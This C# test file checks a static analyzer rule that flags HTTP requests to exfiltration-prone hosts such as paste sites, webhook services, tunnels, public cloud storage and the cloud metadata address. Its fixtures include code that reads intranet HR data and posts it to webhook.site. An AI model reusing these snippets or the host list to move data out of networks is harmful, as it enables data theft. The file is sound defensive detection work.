using HygieneAnalyzers.Rules.Network;
using HygieneAnalyzers.Tests.Testing;
using Microsoft.CodeAnalysis;
using Xunit;

namespace HygieneAnalyzers.Tests.Rules.Network;

public class ExfiltrationProneHostTests
{
    [Theory]
    [InlineData("https://acme.blob.core.windows.net/backup", "public cloud storage")]
    [InlineData("https://backup.s3.eu-central-1.amazonaws.com/x", "public cloud storage")]
    [InlineData("https://content.dropboxapi.com/2/files/upload", "a file-sharing service")]
    [InlineData("https://pastebin.com/api/api_post.php", "a paste service")]
    [InlineData("https://abc.ngrok-free.app/", "a tunnel into a private network")]
    [InlineData("https://webhook.site/1", "a webhook service")]
    [InlineData("https://discord.com/api/webhooks/1/x", "a webhook service")]
    [InlineData("https://api.telegram.org/bot1/sendDocument", "a webhook service")]
    [InlineData("http://169.254.169.254/latest/meta-data/", "the metadata service of a cloud")]
    public Task Reports_hosts_of_every_kind(string url, string words) => Check<ExfiltrationProneHost>
        .Statements($"await new HttpClient().PostAsync([|\"{url}\"|], null);")
        .Message($"'{new Uri(url).Host}' is {words}; make sure that this program is meant to connect there")
        .Severity(DiagnosticSeverity.Info).Reports();

    [Fact]
    public Task Warns_where_data_of_the_intranet_arrives() => Check<ExfiltrationProneHost>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://hr.internal/people");
        await http.PostAsync([|"https://webhook.site/1"|], new StringContent(people));
        """)
        .Message("'webhook.site' is a webhook service, and data of the intranet reaches it; make sure that this program is meant to connect there")
        .Severity(DiagnosticSeverity.Warning).Reports();

    [Fact]
    public Task Is_silent_where_the_data_itself_stands() => Check<ExfiltrationProneHost>.Statements("""
        var http = new HttpClient();
        var people = await http.GetStringAsync("https://hr.internal/people");
        await http.GetAsync($"https://webhook.site/1?d={people}");
        """).Silent();

    [Fact]
    public Task Is_silent_where_the_mix_is_reported() => Check<ExfiltrationProneHost>.Statements("""
        var http = new HttpClient();
        await http.GetStringAsync("https://hr.internal/people");
        await http.PostAsync({|HYG4001:"https://webhook.site/1"|}, new StringContent(input));
        """).Beside<MixedZones>().Reports();

    [Fact]
    public Task Is_silent_where_the_shared_client_is_reported() => Check<ExfiltrationProneHost>.Statements("""
        var http = new HttpClient();
        http.DefaultRequestHeaders.Add("X-Api-Key", input);
        await http.GetStringAsync("https://hr.internal/people");
        await http.PostAsync({|HYG4004:"https://webhook.site/1"|}, new StringContent(input));
        """).Beside<ClientForTwoZones>().Reports();

    [Fact]
    public Task Reports_hosts_of_which_a_part_is_known() => Check<ExfiltrationProneHost>
        .Statements("""await new HttpClient().PutAsync($"https://{input}[|.blob.core.windows.net/x|]", null);""").Reports();

    [Fact]
    public Task Reports_configured_hosts() => Check<ExfiltrationProneHost>
        .Statements("""await new HttpClient().PostAsync([|"https://drop.partner.com/"|], null);""").Option("hygiene.exfiltration_hosts", "drop.partner.com")
        .Message("'drop.partner.com' is set down as a place to which data gets out; make sure that this program is meant to connect there").Reports();

    [Theory]
    [InlineData("hygiene.zone", "intranet")]
    [InlineData("hygiene.zone", "Internal")]
    [InlineData("hygiene.zone_namespaces", "Acme.Hr.** = intranet")]
    public Task Warns_inside_the_intranet_zone(string key, string value) => Check<ExfiltrationProneHost>
        .Code("""namespace Acme.Hr.Jobs { class C { void M(System.Net.Http.HttpClient http) => http.PostAsync([|"https://webhook.site/1"|], null); } }""")
        .Option(key, value).Severity(DiagnosticSeverity.Warning).Reports();

    [Fact]
    public Task Warns_inside_a_type_of_the_intranet() => Check<ExfiltrationProneHost>.Code("""
        sealed class NetworkZoneAttribute(string zone) : System.Attribute { public string Zone => zone; }
        [NetworkZone("intranet")]
        class C { void M(System.Net.Http.HttpClient http) => http.PostAsync([|"https://webhook.site/1"|], null); }
        """).Severity(DiagnosticSeverity.Warning).Reports();

    [Theory]
    [InlineData("https://api.partner.com/v1")]
    [InlineData("https://discord.com/invite/x")]
    [InlineData("https://www.google.com/")]
    [InlineData("https://ec2.eu-central-1.amazonaws.com/")]
    [InlineData("https://vault.azure.net/")]
    [InlineData("http://169.254.10.10/")]
    [InlineData("https://files.privatelink.blob.core.windows.net/")]
    [InlineData("http://localhost/pastebin.com")]
    [InlineData("https://notpastebin.com/")]
    [InlineData("https://api.github.com/repos/x")]
    public Task Is_silent_on_other_hosts(string url) => Check<ExfiltrationProneHost>.Statements($"await new HttpClient().GetAsync(\"{url}\");").Silent();

    [Fact]
    public Task Is_silent_on_text_that_reaches_no_sink() => Check<ExfiltrationProneHost>
        .Statements("""Console.WriteLine("https://pastebin.com/" + new Uri("https://webhook.site/1"));""").Silent();

    [Fact]
    public Task Is_silent_on_configured_hosts() => Check<ExfiltrationProneHost>
        .Statements("""await new HttpClient().PostAsync("https://acme.blob.core.windows.net/x", null);""")
        .Option("hygiene.internal_hosts", "acme.blob.core.windows.net").Silent();

    [Fact]
    public Task Is_silent_on_cors_and_listeners() => Check<ExfiltrationProneHost>
        .Statements("""new Microsoft.AspNetCore.Cors.Infrastructure.CorsPolicyBuilder().WithOrigins("https://abc.ngrok.io");""").Silent();

    [Fact]
    public Task Is_silent_in_development() => Check<ExfiltrationProneHost>.Code("""
        using Microsoft.Extensions.Hosting;
        class C
        {
            void M(System.Net.Http.HttpClient http, IHostEnvironment environment)
            {
                if (environment.IsDevelopment()) { http.GetAsync("https://abc.ngrok.io/"); }
            }
        }
        """).Silent();

    [Fact]
    public Task Is_silent_in_test_projects() => Check<ExfiltrationProneHost>
        .Statements("""await new HttpClient().PostAsync("https://webhook.site/1", null);""").InTestProject().Silent();

    [Fact]
    public Task Misses_storage_clients_that_know_their_host_themselves() => Check<ExfiltrationProneHost>
        .Statements("""await new HttpClient().PostAsync(input, null);""").Silent();
}
